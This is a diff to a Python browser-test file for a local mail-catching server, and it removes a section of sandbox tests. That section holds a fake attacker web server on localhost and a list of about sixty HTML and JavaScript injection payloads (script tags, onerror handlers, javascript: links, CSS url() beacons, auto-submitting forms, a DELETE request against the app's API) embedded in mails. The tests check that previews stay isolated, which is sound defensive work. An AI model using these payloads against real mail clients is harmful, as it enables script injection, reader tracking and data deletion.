@@ -3,9 +3,6 @@
 import json
 import re
 import smtplib
-import socket
-import threading
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -14,14 +11,12 @@ from playwright.sync_api import Page, Route, expect
 from mailtrap.config import Config, HostPort
 from mailtrap.server import Server
 from tests.browser import (
-    REFUSED,
     Desk,
     OpenDesk,
     open_mail,
     preview,
     row,
     rows,
-    settle,
     show,
     subjects,
     watch_navigation,
@@ -413,215 +408,7 @@ def test_a_lost_connection_heals(tmp_path: Path, desk: Desk) -> None:
     assert same is True
 
 
-# Hostile mail
-
-
-class Trap:
-    """A web server of the attacker on this machine: it answers whatever is asked, and remembers that it was."""
-
-    def __init__(self) -> None:
-        self._listening = socket.create_server(("127.0.0.1", 0))
-        self.url = f"http://track.localhost:{self._listening.getsockname()[1]}"
-        self.hits: list[str] = []
-        self._thread = threading.Thread(target=self._serve, name="mailtrap-trap", daemon=True)
-        self._thread.start()
-
-    def _serve(self) -> None:
-        while True:
-            try:
-                connection, _ = self._listening.accept()
-            except OSError:
-                return
-            with connection:
-                connection.settimeout(5)
-                try:
-                    asked = connection.recv(65_536)
-                    self.hits.append(asked.decode("latin-1"))
-                    head = "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nConnection: close\r\n"
-                    connection.sendall(f"{head}Content-Length: {len(PNG)}\r\n\r\n".encode() + PNG)
-                except OSError:
-                    self.hits.append("a connection without a request")
-
-    def close(self) -> None:
-        """End it."""
-        self._listening.shutdown(socket.SHUT_RDWR)
-        self._listening.close()
-        self._thread.join()
-
-
-@pytest.fixture
-def trap() -> Iterator[Trap]:
-    made = Trap()
-    yield made
-    made.close()
-
-
-RUN = "fetch('{t}/js');window.ran=1;top.ran=1;console.log('RAN');alert('RAN')"
-VECTORS = {
-    "script": "<script>{run}</script>",
-    "script src": '<script src="{t}/a.js"></script><script type="module" src="{t}/b.js"></script>',
-    "onerror": '<img src="x:y" onerror="{run}">',
-    "remote image": '<img src="{t}/img.png"><img srcset="{t}/set.png 1x"><img src="//{h}/relative.png">',
-    "lazy image": '<img loading="lazy" src="{t}/lazy.png">',
-    "picture": '<picture><source srcset="{t}/source.png"><img src="{t}/fallback.png"></picture>',
-    "image input": '<input type="image" src="{t}/input.png">',
-    "background": '<table background="{t}/table.png"><tr><td background="{t}/td.png">x</table>',
-    "style url": '<div style="background:url({t}/style.png);list-style:url({t}/list.png)">x</div>',
-    "style import": "<style>@import url('{t}/import.css'); @import '{t}/import2.css';</style>",
-    "style image-set": '<div style="background:image-set(url({t}/set1.png) 1x)">x</div>',
-    "font": "<style>@font-face{{font-family:f;src:url({t}/font.woff)}}*{{font-family:f}}</style>",
-    "cursor": '<div style="cursor:url({t}/cursor.png),auto;border-image:url({t}/border.png)">x</div>',
-    "svg filter": '<p style="filter:url({t}/f.svg#f);mask:url({t}/mask.svg);clip-path:url({t}/c.svg#c)">x</p>',
-    "content": "<style>p::before{{content:url({t}/content.png)}}</style><p>x</p>",
-    "css variable": '<div style="--u:url({t}/var.png);background:var(--u)">x</div>',
-    "stylesheet": '<link rel="stylesheet" href="{t}/link.css">',
-    "prefetch": '<link rel="prefetch" href="{t}/prefetch"><link rel="prerender" href="{t}/prerender">',
-    "preload": '<link rel="preload" as="image" href="{t}/preload.png"><link rel="modulepreload" href="{t}/m.js">',
-    "preconnect": '<link rel="preconnect" href="{t}/"><link rel="dns-prefetch" href="//{h}/">',
-    "icon": '<link rel="icon" href="{t}/icon.png"><link rel="apple-touch-icon" href="{t}/touch.png">',
-    "manifest": '<link rel="manifest" href="{t}/manifest.json">',
-    "refresh": '<meta http-equiv="refresh" content="0;url={t}/refresh">',
-    "refresh js": '<meta http-equiv="refresh" content="0;url=javascript:{run}">',
-    "csp report": '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; report-uri {t}/report">',
-    "cookie": '<meta http-equiv="Set-Cookie" content="a=b">',
-    "base": '<base href="{t}/base/"><img src="relative-to-base.png">',
-    "nested iframe": '<iframe srcdoc="&lt;iframe src={t}/in>&lt;/iframe>&lt;link rel=preconnect href={t}>">',
-    "svg iframe": '<svg><foreignObject><iframe/src="{t}/f"></iframe></foreignObject></svg><IFRAME\nsrc={t}/i></IFRAME>',
-    "iframe": '<iframe src="{t}/iframe"></iframe><iframe srcdoc="<script>{run}</script>"></iframe>',
-    "iframe js": '<iframe src="javascript:{run}"></iframe><iframe src="data:text/html,<script>{run}</script>">',
-    "frameset": '<frame src="{t}/frame">',
-    "object": '<object data="{t}/object.swf"></object><object type="text/html" data="{t}/object.html"></object>',
-    "embed": '<embed src="{t}/embed.swf"><applet code="x" codebase="{t}/applet"></applet>',
-    "video": '<video src="{t}/video.mp4" poster="{t}/poster.png" autoplay muted></video>',
-    "audio": '<audio autoplay src="{t}/audio.mp3"></audio><video><source src="{t}/s.mp4"><track src="{t}/t.vtt">',
-    "svg onload": '<svg onload="{run}"><image href="{t}/svg.png"/><use href="{t}/use.svg#a"/></svg>',
-    "svg script": '<svg><script>{run}</script><foreignObject><img src="{t}/foreign.png"></foreignObject></svg>',
-    "svg animate": '<svg><a><animate attributeName="href" values="javascript:{run}"/></a><set onbegin="{run}"/></svg>',
-    "svg feimage": '<svg><filter id="f"><feImage href="{t}/feimage.png"/></filter><rect filter="url(#f)"/></svg>',
-    "math": '<math href="javascript:{run}"><mtext><img src=x:y onerror="{run}"></mtext></math>',
-    "autofocus": '<input autofocus onfocus="{run}"><select autofocus onfocus="{run}"></select>',
-    "details": '<details open ontoggle="{run}">x</details><marquee onstart="{run}">x</marquee>',
-    "body": '<body onload="{run}" background="{t}/body.png" onpageshow="{run}">',
-    "form": '<form id="f" action="{t}/form" method="post"><input name="a"></form><script>f.submit()</script>',
-    "button": '<form action="{t}/button"><button id="press" formaction="{t}/formaction">x</button></form>',
-    "javascript link": '<a id="js-link" href="javascript:{run}">x</a>',
-    "ping": '<a id="ping" href="#" ping="{t}/ping">x</a>',
-    "portal": '<portal src="{t}/portal"></portal><fencedframe src="{t}/fenced"></fencedframe>',
-    "noscript": '<noscript><img src="{t}/noscript.png"></noscript>',
-    "template": '<template shadowrootmode="open"><img src="{t}/shadow.png"></template>',
-    "mutation": '<svg></p><style><a title="</style><img src=x:y onerror={run}>">',
-    "comment": '<!--><img src="{t}/comment.png" onerror="{run}">-->',
-    "conditional": '<!--[if mso]><img src="{t}/mso.png"><![endif]-->',
-    "xml stylesheet": '<?xml-stylesheet href="{t}/x"?><link rel=stylesheet href="data:text/css,@import url({t}/d)">',
-    "speculation": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{t}/spec"]}}]}}</script>',
-    "worker": "<script>new Worker('{t}/w.js');navigator.sendBeacon('{t}/b');new Image().src='{t}/new.png'</script>",
-    "socket": "<script>new WebSocket('ws://{h}/ws');new EventSource('{t}/es')</script>",
-    "own api": "<script>fetch('/api/v1/messages',{{method:'DELETE'}})</script><img src='/api/v1/message/latest'>",
-    "target": '<a id="top" target="_top" href="{t}/top">x</a>',
-    "no such part": '<img src="cid:nobody@x"><img src="/view/latest/guess/1">',
-}  # fmt: skip
-"""Ways out of a mail, each of which fetches or runs something where nothing holds it."""
-
-
-def vectors(trap: Trap) -> dict[str, str]:
-    """The vectors with the attacker's address in them."""
-    host = trap.url.removeprefix("http://")
-    run = RUN.format(t=trap.url)
-    return {name: text.format(t=trap.url, h=host, run=run) for name, text in VECTORS.items()}
-
-
-def hostile_mails(trap: Trap) -> list[bytes]:
-    """The vectors, ten in a mail; those that would hide what follows come in mails of their own."""
-    alone = {"noscript", "mutation", "comment", "refresh", "refresh js", "base", "csp report", "body", "frameset"}
-    ways = vectors(trap)
-    common = [text for name, text in ways.items() if name not in alone]
-    pages = ["".join(common[at : at + 10]) for at in range(0, len(common), 10)]
-    pages += [ways[name] for name in ways if name in alone]
-    end = "<p id='end'>the end</p>"
-    return [
-        letter(html=f"{end}<div>{page}</div>", subject=f"hostile {at}", pictures=[picture("logo@x")])
-        for at, page in enumerate(pages)
-    ]
-
-
-def test_there_are_enough_vectors(trap: Trap) -> None:
-    """The list of vectors is long, and every one would reach the attacker or run something."""
-    assert len(VECTORS) >= 50
-    assert [name for name, text in vectors(trap).items() if "{" in text and "{t}" in text] == []
-
-
-def test_the_trap_catches(trap: Trap, desk: Desk) -> None:
-    """What is asked of the attacker's server is seen there and in the browser's requests: the trap is set."""
-    page = desk.context.new_page()
-    page.set_content(f'<img id="i" src="{trap.url}/seen.png"><link rel="preconnect" href="{trap.url}">')
-    wait_for(lambda: trap.hits, what="the request")
-
-    assert any("/seen.png" in hit for hit in trap.hits)
-    assert f"{trap.url}/seen.png" in [request.url for request in desk.requests]
-
-
-def test_hostile_mail_does_nothing_in_the_preview(server: Running, desk: Desk, trap: Trap) -> None:
-    """Mails with every vector, opened in the page one by one: nothing runs, and nothing is asked of anybody else."""
-    ids = [server.send(raw) for raw in hostile_mails(trap)]
-    page = desk.live(server)
-    watch_navigation(page)
-    for at, id_ in enumerate(ids):
-        open_mail(page, id_, f"hostile {at}")
-        frame = page.frame_locator("[data-testid=preview-frame]")
-        expect(frame.locator("body")).to_contain_text("the end")
-        preview(page).wait_for_load_state("load")
-        for link in ("js-link", "ping", "top", "press"):
-            if (found := frame.locator(f"#{link}")).count():
-                found.dispatch_event("click")
-    last = server.send(letter(html="<p>harmless</p>", subject="harmless"))
-    open_mail(page, last, "harmless")
-    expect(page.frame_locator("[data-testid=preview-frame]").locator("p")).to_be_visible()
-    preview(page).wait_for_load_state("load")
-
-    assert trap.hits == []
-    assert desk.foreign(server) == []
-    assert desk.dialogs == []
-    assert [said for said in desk.complaints if "RAN" in said and said.startswith("log")] == []
-    assert page.evaluate("[window.ran, window.stillTheSame]") == [None, True]
-    assert len(server.messages()) == len(ids) + 1
-    own = [request.url for request in desk.requests if request.failure not in REFUSED]
-    assert not [url for url in own if "/api/v1/message/latest" in url or "/guess/" in url]
-
-
-def test_hostile_mail_does_nothing_in_a_tab_of_its_own(server: Running, desk: Desk, trap: Trap) -> None:
-    """The same mails, their address opened as a tab of its own: the prison is in the answer, not in our frame."""
-    ids = [server.send(raw) for raw in hostile_mails(trap)]
-    for id_ in ids:
-        page = desk.open(f"{server.web}/view/{id_}.html")
-        expect(page.locator("body")).to_contain_text("the end")
-        for link in ("js-link", "press"):
-            if (found := page.locator(f"#{link}")).count():
-                found.dispatch_event("click")
-        settle(page)
-        ran, url, origin = page.evaluate("[window.ran, location.href, window.origin]")
-        page.close()
-
-        assert ran is None
-        assert url == f"{server.web}/view/{id_}.html"
-        assert origin == "null"
-
-    assert trap.hits == []
-    assert desk.foreign(server) == []
-    assert desk.dialogs == []
-    assert len(server.messages()) == len(ids)
-
-
-@pytest.mark.parametrize("query", ["", "?remote=1"])
-def test_a_frameset_opens_nothing(server: Running, desk: Desk, trap: Trap, query: str) -> None:
-    """A mail that is nothing but frames connects to none of their hosts."""
-    frames = f'<frameset><frame src="{trap.url}/one"><frame src="{trap.url}/two"></frameset>'
-    id_ = server.send(letter(html=frames))
-    page = desk.open(f"{server.web}/view/{id_}.html{query}")
-    expect(page.locator("frame")).to_have_count(2)
-    settle(page)
-
-    assert trap.hits == []
-    assert desk.foreign(server) == []
+# Links, and what a mail may not; test_escapes has the ways out
 
 
 def test_links_of_a_mail_open_beside_it(server: Running, desk: Desk) -> None:
